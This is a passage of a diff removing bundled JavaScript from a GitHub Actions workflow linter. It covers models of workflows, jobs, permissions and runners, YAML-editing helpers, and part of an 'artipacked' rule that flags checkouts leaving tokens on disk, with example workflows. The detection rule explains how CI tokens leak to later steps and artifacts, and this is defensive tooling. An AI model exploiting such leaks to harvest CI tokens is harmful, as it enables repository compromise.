-        const map = entry.value.kind === "map" ? entry.value : undefined;
-        const type = map?.text("type") ?? "string";
-        return {
-            name: entry.key.value,
-            entry,
-            type: INPUT_TYPES.has(type) ? type : "string",
-            options: scalarsOf(map?.get("options")),
-            isRequired: map?.scalar("required")?.typed === true,
-            default: map?.scalar("default") ?? null,
-        };
-    });
-}
-function scalarsOf(node) {
-    if (!node)
-        return [];
-    if (node.kind === "scalar")
-        return node.isNull ? [] : [node];
-    if (node.kind === "map")
-        return [];
-    return node.items.flatMap((item) => (item.value.kind === "scalar" ? [item.value] : []));
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/action.js
-
-
-/**
- * What every `action.yml` has.
- *
- * @see Metadata syntax for GitHub Actions
- */
-class BaseAction {
-    document;
-    root;
-    runs;
-    constructor(document, root, 
-    /** Empty when the file has none. */
-    runs) {
-        this.document = document;
-        this.root = root;
-        this.runs = runs;
-    }
-    get file() {
-        return this.document.file;
-    }
-    get path() {
-        return this.file.path;
-    }
-    /** The folder it stands in, relative to the repository; empty at the root. */
-    get folder() {
-        const slash = this.path.lastIndexOf("/");
-        return slash === -1 ? "" : this.path.slice(0, slash);
-    }
-    get inputs() {
-        return inputsOf(this.root.get("inputs"));
-    }
-    get outputs() {
-        return this.root.map("outputs")?.entries ?? [];
-    }
-    /** `runs.using`. */
-    get using() {
-        return this.runs?.scalar("using");
-    }
-}
-/** `using: composite`: steps of its own. */
-class CompositeAction extends BaseAction {
-    kind = "composite";
-    #steps;
-    get steps() {
-        this.#steps ??= stepsOf(this, this.runs?.get("steps"));
-        return this.#steps;
-    }
-    /** A composite action has no `env:` above its steps; what its caller sets can't be seen here. */
-    variable(_name) {
-        return undefined;
-    }
-    /** Each `run:` of a composite action must name its shell; where one doesn't, bash is the likeliest. */
-    get defaultShell() {
-        return { value: "bash", from: "unknown", node: null };
-    }
-    get defaultWorkingDirectory() {
-        return { value: ".", from: "default", node: null };
-    }
-}
-/** `using: node24` and the like. */
-class JavaScriptAction extends BaseAction {
-    kind = "javascript";
-    /** The files that it runs: `pre`, `main`, `post`. */
-    get entryPoints() {
-        return ["pre", "main", "post"].flatMap((key) => this.runs?.scalar(key) ?? []);
-    }
-}
-/** `using: docker`. */
-class DockerAction extends BaseAction {
-    kind = "docker";
-    /** `Dockerfile`, a path to one, or `docker://image`. */
-    get image() {
-        return this.runs?.scalar("image");
-    }
-}
-/** `runs.using` is missing, or something else. */
-class UnknownAction extends BaseAction {
-    kind = "unknown";
-}
-function actionOf(document, root) {
-    const runs = root.map("runs");
-    const using = runs?.text("using")?.toLowerCase() ?? "";
-    if (using === "composite")
-        return new CompositeAction(document, root, runs);
-    if (using === "docker")
-        return new DockerAction(document, root, runs);
-    if (using.startsWith("node"))
-        return new JavaScriptAction(document, root, runs);
-    return new UnknownAction(document, root, runs);
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/dependabot.js
-
-/**
- * `.github/dependabot.yml`.
- *
- * @see Dependabot options reference
- */
-class Dependabot {
-    document;
-    root;
-    kind = "dependabot";
-    constructor(document, root) {
-        this.document = document;
-        this.root = root;
-    }
-    get file() {
-        return this.document.file;
-    }
-    get updates() {
-        return (this.root.seq("updates")?.items ?? []).flatMap(({ value }) => value.kind === "map" ? [updateOf(value)] : []);
-    }
-}
-function updateOf(map) {
-    return {
-        map,
-        ecosystem: map.scalar("package-ecosystem"),
-        directories: [...scalarsOf(map.get("directory")), ...scalarsOf(map.get("directories"))],
-        cooldown: map.map("cooldown"),
-    };
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/matrix.js
-
-/** `strategy.matrix` of a job. */
-class Matrix {
-    entry;
-    constructor(entry) {
-        this.entry = entry;
-    }
-    get map() {
-        return this.entry.value.kind === "map" ? this.entry.value : undefined;
-    }
-    /** The whole matrix is an expression. */
-    get isDynamic() {
-        return this.entry.value.kind === "scalar";
-    }
-    /**
-     * The values of `matrix.<path>`, such as `["os"]` or `["target", "image"]`; `*` stands for any key or item.
-     *
-     * Exclusions count only when they drop a value altogether; a value that some combination keeps is kept.
-     *
-     * @see Workflow syntax for GitHub Actions, `jobs.<job_id>.strategy.matrix`
-     */
-    valuesOf(path) {
-        const { map } = this;
-        const [head, ...rest] = path;
-        if (!map || head === undefined)
-            return { values: [], isOpen: true };
-        const found = [];
-        const state = { isOpen: false };
-        const dropped = this.droppedValues(head);
-        for (const entry of map.entries) {
-            const key = entry.key.value;
-            if (key === "exclude")
-                continue;
-            if (key === "include")
-                collectFromInclude(entry.value, path, found, state);
-            else if (head === "*" || key.toLowerCase() === head)
-                collectFromVector(entry.value, rest, dropped, found, state);
-        }
-        return { values: found, isOpen: state.isOpen };
-    }
-    /** Values of a vector that an exclusion of that one key removes from every combination. */
-    droppedValues(head) {
-        const dropped = new Set();
-        for (const item of this.map?.seq("exclude")?.items ?? []) {
-            if (item.value.kind !== "map" || item.value.entries.length !== 1)
-                continue;
-            const [only] = item.value.entries;
-            if (only.key.value.toLowerCase() === head && only.value.kind === "scalar")
-                dropped.add(only.value.value);
-        }
-        return dropped;
-    }
-}
-function collectFromInclude(node, path, found, state) {
-    if (node.kind !== "seq")
-        state.isOpen = true;
-    else
-        for (const item of node.items)
-            descend(item.value, path, found, state);
-}
-function collectFromVector(node, rest, dropped, found, state) {
-    if (node.kind !== "seq") {
-        state.isOpen = true;
-        return;
-    }
-    const own = [];
-    for (const item of node.items)
-        descend(item.value, rest, own, state);
-    for (const value of own)
-        if (!dropped.has(value.value))
-            found.push(value);
-}
-function descend(node, path, found, state) {
-    if (node.kind === "scalar") {
-        if (expressionsIn(node).length > 0)
-            state.isOpen = true;
-        if (path.length === 0)
-            found.push(node);
-        return;
-    }
-    const [head, ...rest] = path;
-    if (head === undefined) {
-        // The whole structure is expanded as text: any scalar in it.
-        for (const child of matrix_childrenOf(node))
-            descend(child, path, found, state);
-    }
-    else if (node.kind === "map") {
-        for (const entry of node.entries) {
-            if (head === "*" || entry.key.value.toLowerCase() === head)
-                descend(entry.value, rest, found, state);
-        }
-    }
-    else if (head === "*") {
-        for (const item of node.items)
-            descend(item.value, rest, found, state);
-    }
-}
-function matrix_childrenOf(node) {
-    if (node.kind === "scalar")
-        return [];
-    return node.kind === "map" ? node.entries.map((entry) => entry.value) : node.items.map((item) => item.value);
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/permissions.js
-/**
- * The scopes of `GITHUB_TOKEN`.
- *
- * @see Workflow syntax for GitHub Actions, `permissions`
- */
-const PERMISSION_SCOPES = [
-    "actions",
-    "artifact-metadata",
-    "attestations",
-    "checks",
-    "code-quality",
-    "contents",
-    "deployments",
-    "discussions",
-    "id-token",
-    "issues",
-    "models",
-    "packages",
-    "pages",
-    "pull-requests",
-    "repository-projects",
-    "security-events",
-    "statuses",
-];
-/** A `permissions:` block. Once it is there, every scope that it doesn't name is `none`. */
-class Permissions {
-    entry;
-    kind;
-    grants;
-    constructor(entry) {
-        this.entry = entry;
-        this.kind = permissions_kindOf(entry.value);
-        this.grants = this.kind === "scopes" ? grantsOf(entry.value) : [];
-    }
-    level(scope) {
-        if (this.kind === "write-all")
-            return scope === "models" ? "read" : "write";
-        // `read-all` gives no identity: `id-token` has no read level.
-        if (this.kind === "read-all")
-            return scope === "id-token" ? "none" : "read";
-        return this.grants.findLast((grant) => grant.scope === scope)?.level ?? "none";
-    }
-    /** Scopes that may write, `id-token` among them. */
-    get writes() {
-        if (this.kind === "write-all")
-            return PERMISSION_SCOPES.filter((scope) => this.level(scope) === "write");
-        return this.grants.filter((grant) => grant.level === "write").map((grant) => grant.scope);
-    }
-}
-function permissions_kindOf(node) {
-    if (node.kind === "map")
-        return "scopes";
-    if (node.kind === "seq")
-        return "unreadable";
-    if (node.value === "read-all" || node.value === "write-all")
-        return node.value;
-    // `permissions:` with nothing behind it is an empty block to GitHub.
-    return node.isNull ? "scopes" : "unreadable";
-}
-function grantsOf(node) {
-    if (node.kind !== "map")
-        return [];
-    return node.entries.map((entry) => ({ scope: entry.key.value, level: permissions_levelOf(entry.value), entry }));
-}
-function permissions_levelOf(node) {
-    const text = node.kind === "scalar" ? node.value : "";
-    return text === "read" || text === "write" ? text : "none";
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/runner.js
-
-
-/** `runs-on` of a job: labels, a group with labels, or expressions that matrix values fill. */
-class Runner {
-    entry;
-    matrix;
-    #labels;
-    constructor(entry, matrix) {
-        this.entry = entry;
-        this.matrix = matrix;
-    }
-    /** The runner group that it asks for. */
-    get group() {
-        return this.entry.value.kind === "map" ? this.entry.value.scalar("group") : undefined;
-    }
-    get labels() {
-        return this.resolve().known;
-    }
-    /** Part of it can't be known from the file. */
-    get isOpen() {
-        return this.resolve().isOpen;
-    }
-    /** The operating systems that its labels may mean; empty when none can be told. */
-    get systems() {
-        const systems = new Set();
-        for (const label of this.labels) {
-            const system = systemOf(label.text);
-            if (system)
-                systems.add(system);
-        }
-        return [...systems];
-    }
-    resolve() {
-        this.#labels ??= resolveLabels(this.entry.value, this.matrix);
-        return this.#labels;
-    }
-}
-function resolveLabels(node, matrix) {
-    const known = [];
-    let isOpen = false;
-    for (const scalar of labelScalars(node)) {
-        if (expressionsIn(scalar).length === 0) {
-            known.push({ text: scalar.value, node: scalar, fromMatrix: false });
-            continue;
-        }
-        const values = matrixValues(scalar, matrix);
-        if (!values || values.isOpen)
-            isOpen = true;
-        for (const value of values?.values ?? [])
-            known.push({ text: value.value, node: value, fromMatrix: true });
-    }
-    return { known, isOpen };
-}
-function matrixValues(scalar, matrix) {
-    const whole = wholeExpression(scalar)?.expression;
-    const path = whole && contextPath(whole);
-    if (!matrix || !path || path.segments[0] !== "matrix")
-        return undefined;
-    return matrix.valuesOf(path.segments.slice(1));
-}
-function labelScalars(node) {
-    if (!node)
-        return [];
-    if (node.kind === "scalar")
-        return node.isNull ? [] : [node];
-    if (node.kind === "map")
-        return labelScalars(node.get("labels"));
-    return node.items.flatMap((item) => (item.value.kind === "scalar" ? [item.value] : []));
-}
-/** Of GitHub's images and of the labels that self-hosted runners get by themselves. */
-function systemOf(label) {
-    const text = label.toLowerCase();
-    if (text === "linux" || text.startsWith("ubuntu"))
-        return "linux";
-    if (text === "macos" || text.startsWith("macos-") || text.startsWith("mac"))
-        return "macos";
-    if (text === "windows" || text.startsWith("windows-") || text.startsWith("win"))
-        return "windows";
-    return undefined;
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/job.js
-
-
-
-
-
-
-
-
-/** What both kinds of jobs have. */
-class BaseJob {
-    workflow;
-    key;
-    map;
-    permissions;
-    matrix;
-    constructor(workflow, 
-    /** The job's id. */
-    key, map) {
-        this.workflow = workflow;
-        this.key = key;
-        this.map = map;
-        const permissions = map.entry("permissions");
-        this.permissions = permissions ? new Permissions(permissions) : null;
-        const matrix = map.map("strategy")?.entry("matrix");
-        this.matrix = matrix ? new Matrix(matrix) : null;
-    }
-    get id() {
-        return this.key.value;
-    }
-    get file() {
-        return this.map.file;
-    }
-    get condition() {
-        return this.map.scalar("if");
-    }
-    get needs() {
-        return scalarsOf(this.map.get("needs"));
-    }
-    get outputs() {
-        return this.map.map("outputs")?.entries ?? [];
-    }
-    /**
-     * What the job's token may do.
-     *
-     * @see Workflow syntax for GitHub Actions, `jobs.<job_id>.permissions`: a job's block replaces the workflow's
-     */
-    get effectivePermissions() {
-        if (this.permissions)
-            return { from: "job", permissions: this.permissions };
-        const { permissions } = this.workflow;
-        return permissions ? { from: "workflow", permissions } : { from: "default", permissions: null };
-    }
-}
-/** A job that runs steps. */
-class NormalJob extends BaseJob {
-    kind = "normal";
-    env = envBlock("job", this.map);
-    #steps;
-    #runner;
-    #containers;
-    get steps() {
-        this.#steps ??= stepsOf(this, this.map.get("steps"));
-        return this.#steps;
-    }
-    get runner() {
-        if (this.#runner === undefined) {
-            const entry = this.map.entry("runs-on");
-            this.#runner = entry ? new Runner(entry, this.matrix) : null;
-        }
-        return this.#runner;
-    }
-    /** The container that the steps run in, and the services beside it. */
-    get containers() {
-        this.#containers ??= containersOf(this.map);
-        return this.#containers;
-    }
-    get environment() {
-        return this.map.get("environment");
-    }
-    variable(name) {
-        return this.env?.get(name) ?? this.workflow.env?.get(name);
-    }
-    get defaultShell() {
-        const own = runDefault(this.map, "shell");
-        if (own)
-            return { value: shellOf(own.value), from: "job", node: own };
-        const shared = runDefault(this.workflow.root, "shell");
-        if (shared)
-            return { value: shellOf(shared.value), from: "workflow", node: shared };
-        return this.runnerShell();
-    }
-    /** Without a `shell:` anywhere: `pwsh` on Windows, `bash` elsewhere, `sh` in a container. */
-    runnerShell() {
-        if (this.map.entry("container"))
-            return { value: "sh", from: "runner", node: null };
-        const runner = this.runner;
-        const systems = runner?.systems ?? [];
-        if (systems.length === 1 && systems[0] === "windows")
-            return { value: "pwsh", from: "runner", node: null };
-        // Mixed matrices: the script has to be read by bash at least.
-        const isKnown = systems.length > 0 && !systems.includes("windows") && runner?.isOpen === false;
-        return { value: "bash", from: isKnown ? "runner" : "unknown", node: null };
-    }
-    get defaultWorkingDirectory() {
-        const own = runDefault(this.map, "working-directory");
-        if (own)
-            return { value: own.value, from: "job", node: own };
-        const shared = runDefault(this.workflow.root, "working-directory");
-        if (shared)
-            return { value: shared.value, from: "workflow", node: shared };
-        return { value: ".", from: "default", node: null };
-    }
-}
-/** A job that calls a reusable workflow. */
-class ReusableJob extends BaseJob {
-    kind = "reusable";
-    uses;
-    constructor(workflow, key, map, uses) {
-        super(workflow, key, map);
-        this.uses = new Uses(uses);
-    }
-    get with() {
-        return this.map.map("with");
-    }
-    get secrets() {
-        return this.map.entry("secrets");
-    }
-    get inheritsSecrets() {
-        const node = this.secrets?.value;
-        return node?.kind === "scalar" && node.value === "inherit";
-    }
-}
-function runDefault(map, key) {
-    const node = map.map("defaults")?.map("run")?.scalar(key);
-    return node && !node.isNull ? node : undefined;
-}
-function containersOf(map) {
-    const uses = [];
-    const container = map.entry("container");
-    if (container)
-        uses.push(containerUse("container", "container", container));
-    for (const entry of map.map("services")?.entries ?? [])
-        uses.push(containerUse("service", entry.key.value, entry));
-    return uses;
-}
-function containerUse(kind, name, entry) {
-    const { value } = entry;
-    if (value.kind !== "map") {
-        const image = value.kind === "scalar" && !value.isNull ? value : null;
-        return { kind, name, entry, image, env: null, credentials: undefined };
-    }
-    const image = value.scalar("image") ?? null;
-    return { kind, name, entry, image, env: envBlock("container", value), credentials: value.map("credentials") };
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/workflow.js
-
-
-
-
-/** A file of `.github/workflows`. */
-class Workflow {
-    document;
-    root;
-    kind = "workflow";
-    permissions;
-    env;
-    #triggers;
-    #jobs;
-    constructor(document, root) {
-        this.document = document;
-        this.root = root;
-        const permissions = root.entry("permissions");
-        this.permissions = permissions ? new Permissions(permissions) : null;
-        this.env = envBlock("workflow", root);
-    }
-    get file() {
-        return this.document.file;
-    }
-    get path() {
-        return this.file.path;
-    }
-    get name() {
-        return this.root.text("name");
-    }
-    /** `on:` with its key; YAML 1.2 reads `on` as a string. */
-    get on() {
-        return this.root.entry("on");
-    }
-    get triggers() {
-        this.#triggers ??= triggersOf(this.on?.value);
-        return this.#triggers;
-    }
-    trigger(event) {
-        return this.triggers.find((trigger) => trigger.event === event);
-    }
-    /** It runs only when another workflow calls it. */
-    get isReusableOnly() {
-        return this.triggers.length === 1 && this.triggers[0]?.event === "workflow_call";
-    }
-    get jobs() {
-        this.#jobs ??= jobsOf(this);
-        return this.#jobs;
-    }
-    job(id) {
-        return this.jobs.find((job) => job.id.toLowerCase() === id.toLowerCase());
-    }
-}
-function jobsOf(workflow) {
-    const jobs = [];
-    for (const { key, value } of workflow.root.map("jobs")?.entries ?? []) {
-        if (value.kind === "map")
-            jobs.push(jobOf(workflow, key, value));
-    }
-    return jobs;
-}
-function jobOf(workflow, key, map) {
-    const uses = map.scalar("uses");
-    return uses && !uses.isNull ? new ReusableJob(workflow, key, map, uses) : new NormalJob(workflow, key, map);
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/model/index.js
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/repository/repository.js
-
-
-
-
-
-
-/** The files of one repository, read and modelled. */
-class Repository {
-    workflows = [];
-    actions = [];
-    dependabot = [];
-    unreadable = [];
-    /** Every file that was read, as YAML. */
-    documents = [];
-    /** Everything that was found, whether it is read here or only looked up by name. */
-    files = [];
-    sources = new Map();
-    workflow(path) {
-        return this.workflows.find((workflow) => workflow.path === path);
-    }
-    /** The action whose `action.yml` stands in that folder. */
-    action(folder) {
-        return this.actions.find((action) => action.folder === folder);
-    }
-    /** The action or reusable workflow of this repository that a `./` or `$/` reference names. */
-    resolve(uses) {
-        const { target } = uses;
-        if (target.kind !== "local")
-            return undefined;
-        const path = normalizePath(target.path);
-        return this.workflow(path) ?? this.action(path);
-    }
-    /**
-     * The local reusable workflows and actions that a workflow or action reaches, itself first, each once: a cycle ends
-     * where it closes.
-     */
-    reachableFrom(start) {
-        const reached = new Set([start]);
-        for (const unit of reached) {
-            for (const uses of repository_usesOf(unit)) {
-                const target = this.resolve(uses);
-                if (target)
-                    reached.add(target);
-            }
-        }
-        return reached;
-    }
-}
-function repository_usesOf(unit) {
-    if (unit.kind === "composite")
-        return unit.steps.flatMap((step) => step.uses ?? []);
-    if (unit.kind !== "workflow")
-        return [];
-    return unit.jobs.flatMap((job) => job.kind === "reusable" ? [job.uses] : job.steps.flatMap((step) => step.uses ?? []));
-}
-/** Reads all of a repository; what can't be read is in `unreadable`. */
-async function readRepository(root, options = {}) {
-    const { isIgnored = () => false, edited, also } = options;
-    const repository = new Repository();
-    const { files, unreachable } = discover(root);
-    for (const { path, reason } of unreachable) {
-        repository.unreadable.push(unreadable(new lib/* SourceFile */.sC(path, ""), reason));
-    }
-    for (const found of files) {
-        if (isIgnored(found.path))
-            continue;
-        repository.files.push(found);
-        if (isModelled(found.kind))
-            await readInto(repository, (0,external_node_path_.join)(root, found.path), found.path, found.kind, edited);
-    }
-    if (also && !repository.sources.has(also) && !files.some(({ path, kind }) => path === also && isModelled(kind))) {
-        await readInto(repository, (0,external_node_path_.join)(root, also), also, null, edited);
-    }
-    return repository;
-}
-function isModelled(kind) {
-    return kind === "workflow" || kind === "action" || kind === "dependabot";
-}
-async function readInto(repository, absolute, path, kind, edited) {
-    const text = edited?.get(path);
-    const result = text === undefined ? readSource(absolute, path) : { ok: true, file: new lib/* SourceFile */.sC(path, text) };
-    if (!result.ok) {
-        repository.unreadable.push(unreadable(new lib/* SourceFile */.sC(path, ""), result.reason));
-        return;
-    }
-    await addSource(repository, result.file, kind);
-}
-/** Models a text that has been read; `kind` null lets its content tell what it is. */
-async function addSource(repository, file, kind) {
-    repository.sources.set(file.path, file);
-    const document = await parseYaml(file);
-    repository.documents.push(document);
-    for (const problem of document.problems) {
-        repository.unreadable.push({ file, start: problem.start, end: problem.end, reason: problem.message });
-    }
-    addModel(repository, document, kind);
-}
-function addModel(repository, document, kind) {
-    const { root, file } = document;
-    if (root?.kind !== "map") {
-        if (document.problems.length > 0)
-            return;
-        const reason = root ? "a mapping is expected at the top" : "it holds nothing";
-        repository.unreadable.push({ file, start: root?.start ?? 0, end: root?.start ?? 0, reason });
-        return;
-    }
-    const what = kind ?? (root.entry("runs") ? "action" : root.entry("updates") ? "dependabot" : "workflow");
-    if (what === "action")
-        repository.actions.push(actionOf(document, root));
-    else if (what === "dependabot")
-        repository.dependabot.push(new Dependabot(document, root));
-    else
-        repository.workflows.push(new Workflow(document, root));
-}
-function unreadable(file, reason) {
-    return { file, start: 0, end: 0, reason };
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/repository/index.js
-
-
-
-
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/edits.js
-/** Adds `key` to a mapping, after `after` or at its end. */
-function insertEntry(map, key, value, after) {
-    return map.flow ? insertInFlow(map, key, value) : insertInBlock(map, key, value, after ?? map.entries.at(-1));
-}
-function insertInFlow(map, key, value) {
-    const { text } = map.file;
-    if (text[map.end - 1] !== "}")
-        return null;
-    const last = map.entries.at(-1);
-    const at = last ? endOf(last) : map.start + 1;
-    // Between the last value and the brace there may be a comma already.
-    const hasComma = last !== undefined && /^\s*,/.test(text.slice(at, map.end - 1));
-    if (hasComma)
-        return null;
-    return { start: at, end: at, text: `${last ? ", " : ""}${key}: ${flowText(value)}` };
-}
-function flowText(value) {
-    if (typeof value === "string")
-        return value;
-    return `{${Object.entries(value)
-        .map(([key, text]) => `${key}: ${text}`)
-        .join(", ")}}`;
-}
-function insertInBlock(map, key, value, after) {
-    const { file } = map;
-    const first = map.entries[0];
-    if (!after || !first)
-        return null;
-    const indent = indentOf(file, first.key);
-    if (indent === null)
-        return null;
-    const { at, newline } = endOfLine(file, lastCharacter(file, after));
-    const lines = blockLines(key, value, indent, indentStep(map));
-    return { start: at, end: at, text: lines.map((line) => newline + line).join("") };
-}
-function blockLines(key, value, indent, step) {
-    if (typeof value === "string")
-        return [`${indent}${key}: ${value}`];
-    return [`${indent}${key}:`, ...Object.entries(value).map(([name, text]) => `${indent}${step}${name}: ${text}`)];
-}
-/** Removes an entry with its line; null where it is its mapping's only one, or stands behind a `- ` with others on its line. */
-function removeEntry(map, entry) {
-    const index = map.entries.indexOf(entry);
-    if (index === -1 || map.entries.length === 1)
-        return null;
-    const next = map.entries[index + 1];
-    const previous = map.entries[index - 1];
-    if (map.flow) {
-        if (next)
-            return { start: entry.key.start, end: next.key.start, text: "" };
-        return previous ? { start: endOf(previous), end: endOf(entry), text: "" } : null;
-    }
-    const { file } = map;
-    const { at, newline } = endOfLine(file, lastCharacter(file, entry));
-    const start = startOfLine(file, entry.key.start);
-    // The first key of a list item shares its line with the dash: the next key takes its place.
-    if (file.text.slice(start, entry.key.start).trim() !== "") {
-        return next ? { start: entry.key.start, end: next.key.start, text: "" } : null;
-    }
-    const end = Math.min(file.text.length, at + (at < file.text.length ? newline.length : 0));
-    return { start, end, text: "" };
-}
-/** Puts `text` in the place of a node. */
-function replaceNode(node, text) {
-    return { start: node.start, end: node.end, text };
-}
-/** Sets a key of the mapping that `parent` holds under `name` (`with`, `env`, …), which is added where it is missing. */
-function setIn(parent, name, key, value, after) {
-    const holder = parent.entry(name);
-    if (!holder)
-        return insertEntry(parent, name, { [key]: value }, after);
-    if (holder.alias)
-        return null;
-    const { value: node } = holder;
-    if (node.kind === "map") {
-        const existing = node.entry(key);
-        if (!existing)
-            return node.entries.length === 0 && !node.flow ? null : insertEntry(node, key, value);
-        return existing.alias || existing.value.kind !== "scalar" ? null : replaceNode(existing.value, value);
-    }
-    return node.kind === "scalar" && node.isEmpty && !parent.flow ? fillEmpty(parent, holder, key, value) : null;
-}
-/** `with:` and nothing behind it. */
-function fillEmpty(parent, holder, key, value) {
-    const indent = indentOf(parent.file, holder.key);
-    if (indent === null)
-        return null;
-    const { at, newline } = endOfLine(parent.file, holder.key.end);
-    return { start: at, end: at, text: `${newline}${indent}${indentStep(parent)}${key}: ${value}` };
-}
-function endOf(entry) {
-    return entry.alias ? entry.alias.end : Math.max(entry.value.end, entry.key.end);
-}
-/** The end of an entry without the line breaks that a block scalar ends with. */
-function lastCharacter(file, entry) {
-    let end = endOf(entry);
-    while (end > entry.key.end && /\s/.test(file.text[end - 1]))
-        end--;
-    return end;
-}
-function startOfLine(file, offset) {
-    const { line } = file.position(offset);
-    return file.lineStarts[line - 1];
-}
-function endOfLine(file, offset) {
-    const { text } = file;
-    let at = offset;
-    while (at < text.length && text[at] !== "\n" && text[at] !== "\r")
-        at++;
-    return { at, newline: newlineOf(file) };
-}
-function newlineOf(file) {
-    const match = /\r\n|\n|\r/.exec(file.text);
-    return match ? match[0] : "\n";
-}
-/** White space as deep as a key stands; `- ` before it counts as two spaces. Null where a tab or a key stands before it. */
-function indentOf(file, key) {
-    const before = file.text.slice(startOfLine(file, key.start), key.start);
-    return /^[ -]*$/.test(before) ? " ".repeat(before.length) : null;
-}
-/** One level of indentation, as the mapping's own children have it; two spaces where it has none. */
-function indentStep(map) {
-    for (const entry of map.entries) {
-        const { value } = entry;
-        if (entry.alias || value.kind !== "map" || value.flow || !value.entries[0])
-            continue;
-        const { file } = map;
-        const own = file.position(entry.key.start).column;
-        const inner = file.position(value.entries[0].key.start).column;
-        if (inner > own)
-            return " ".repeat(inner - own);
-    }
-    return "  ";
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/places.js
-/** Where something is missing from a mapping: its first line, without what follows. */
-function firstLineOf(map) {
-    const { text } = map.file;
-    let end = map.start;
-    while (end < map.end && text[end] !== "\n" && text[end] !== "\r")
-        end++;
-    const hash = text.slice(map.start, end).search(/\s+#/);
-    return { file: map.file, start: map.start, end: hash === -1 ? end : map.start + hash };
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rule.js
-/** Declares a rule; everything about it is in this one value. */
-function defineRule(rule) {
-    return { persona: "regular", isZizmor: false, fixes: "none", sources: [], ...rule };
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/credentials/artipacked.js
-
-
-
-
-
-const INPUT = "persist-credentials";
-/* harmony default export */ const artipacked = (defineRule({
-    id: "artipacked",
-    category: "credentials",
-    severity: "medium",
-    isZizmor: true,
-    fixes: "both",
-    summary: "A checkout leaves its credential on disk",
-    risk: "Every later step can read the token from there, the tools and scripts of dependencies too; and where the workspace is uploaded, everyone who can download the artifact.",
-    mend: "Set `persist-credentials: false`. A step that pushes gets its own token.",
-    sources: [
-        "https://unit42.paloaltonetworks.com/github-repo-artifacts-leak-tokens/",
-        "https://github.com/actions/checkout#usage",
-    ],
-    examples: {
-        flagged: [
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  build:
-    runs-on: ubuntu-latest
-    steps:
-      - name: Get the code
-        uses: actions/checkout@1234567890abcdef1234567890abcdef12345678 # v4.2.2
-      - run: make
-`,
-                at: [7],
-                severity: "medium",
-                confidence: "medium",
-                fixed: `on: push
-permissions: {}
-jobs:
-  build:
-    runs-on: ubuntu-latest
-    steps:
-      - name: Get the code
-        uses: actions/checkout@1234567890abcdef1234567890abcdef12345678 # v4.2.2
-        with:
-          persist-credentials: false
-      - run: make
-`,
-            },
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  build:
-    runs-on: ubuntu-latest
-    steps:
-      - uses: actions/checkout@1234567890abcdef1234567890abcdef12345678
-        with: {fetch-depth: 0}
-      - uses: actions/upload-artifact@1234567890abcdef1234567890abcdef12345678
-        with:
-          name: all
-          path: |
-            .
-            !dist
-`,
-                at: [7],
-                severity: "high",
-                fixed: `on: push
-permissions: {}
-jobs:
-  build:
-    runs-on: ubuntu-latest
-    steps:
-      - uses: actions/checkout@1234567890abcdef1234567890abcdef12345678
-        with: {fetch-depth: 0, persist-credentials: false}
-      - uses: actions/upload-artifact@1234567890abcdef1234567890abcdef12345678
-        with:
-          name: all
-          path: |
-            .
-            !dist
-`,
-            },
-            {
-                text: `on: push
-permissions: {contents: write}
-jobs:
-  release:
-    runs-on: ubuntu-latest
-    steps:
-      - uses: actions/checkout@v6
-      - run: git push --tags
-`,
-                at: [7],
-                severity: "low",
-                fixed: `on: push
-permissions: {contents: write}
-jobs:
-  release:
-    runs-on: ubuntu-latest
-    steps:
-      - uses: actions/checkout@v6
-        with:
-          persist-credentials: false
-      - run: git push --tags
-`,
-            },
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  build:
-    runs-on: ubuntu-latest
-    steps:
-      - uses: actions/checkout@1234567890abcdef1234567890abcdef12345678
-        with:
-          persist-credentials: true
-      - run: make
-`,
-                at: [7],
-                persona: "auditor",
-            },
-        ],
-        silent: [
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  build:
-    runs-on: ubuntu-latest
-    steps:
-      - uses: actions/checkout@1234567890abcdef1234567890abcdef12345678
-        with:
-          persist-credentials: false
-      - run: make
-`,
-                because: "it keeps no credential",
-            },
-            {
-                text: `on: push
-permissions: {}
-jobs:
-  build:
-    runs-on: ubuntu-latest
-    steps:
-      - uses: actions/checkout@1234567890abcdef1234567890abcdef12345678
-        with:
-          persist-credentials: true
-      - run: make
-`,
-                because: "somebody said that it is wanted: only an auditor asks again",
-            },
-        ],
-    },
-    job(job, report) {
-        judgeSteps(job.steps, false, report);
-    },
-    // Steps of the caller come after those of a composite action.
-    action(action, report) {
-        if (action.kind === "composite")
-            judgeSteps(action.steps, true, report);
-    },
-}));
-function judgeSteps(steps, hasUnseenSteps, report) {
-    for (const step of steps) {
-        if (!step.uses?.is("actions/checkout"))
-            continue;
-        const persona = personaOf(step);
-        if (persona)
-            judgeCheckout(step, steps.slice(step.index + 1), hasUnseenSteps, persona, report);
-    }
-}
-/** Null where the credential isn't kept. */
-function personaOf(step) {
-    if (step.hasDynamicInputs)
-        return "pedantic";
-    const setting = step.input(INPUT)?.value;
-    if (setting?.kind !== "scalar" || setting.isNull)
-        return "regular";
-    if (expressionsIn(setting).length > 0)
-        return "pedantic";
-    const text = setting.value.trim().toLowerCase();
-    return text === "false" ? null : text === "true" ? "auditor" : "regular";
-}
-function judgeCheckout(step, later, hasUnseenSteps, persona, report) {
-    const upload = later.find(uploadsWorkspace);
-    const severity = severityOf(step, upload !== undefined);
-    const confidence = upload ? "high" : later.length > 0 ? "medium" : "low";
-    const readers = later.length > 0 || hasUnseenSteps ? "every later step can read it" : "no later step reads it today";
-    const message = upload
-        ? "The checkout leaves its token in the workspace, which is uploaded as an artifact"
-        : `The checkout leaves its token on disk; ${readers}`;
